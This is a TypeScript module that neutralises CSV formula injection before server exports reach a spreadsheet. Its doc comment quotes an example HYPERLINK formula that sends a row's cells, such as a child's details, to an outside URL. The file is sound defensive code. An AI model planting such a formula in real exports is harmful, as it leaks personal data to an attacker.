/**
 * CSV that is safe to open in a spreadsheet. Every CSV the server writes goes through here.
 *
 * A cell that begins with `=`, `+`, `-` or `@` is run as a formula by Excel, LibreOffice and
 * Google Sheets (a tab or carriage return in front is skipped by some of them first):
 * `=HYPERLINK("http://…?"&B2, "open")` in a public report's name would send the row's other
 * cells, a child's details, to whoever clicks it. As OWASP recommends (CSV Injection), such a
 * text cell is prefixed with a single quote, which the spreadsheet shows as text, and quoted.
 * Values typed as numbers stay numbers (-3 is a number, not a formula); text is neutralised
 * even when it looks like a number, as OWASP says. Quoting follows RFC 4180; a cell holding a
 * comma, a semicolon (the separator in many locales), a quote, a line break or edge spaces is quoted.
 */
export type CsvValue = string | number | boolean | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",;\r\n]|^\s|\s$/;

export function csvCell(v: CsvValue): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
  const text = FORMULA_START.test(v) ? `'${v}` : v;
  return text !== v || NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(',');
}

/** A whole file: the header row, then one row per record (CRLF line ends, as RFC 4180 and Excel expect). */
export function csvText(header: readonly string[], rows: readonly (readonly CsvValue[])[], eol = '\r\n'): string {
  return [header, ...rows].map(csvRow).join(eol);
}
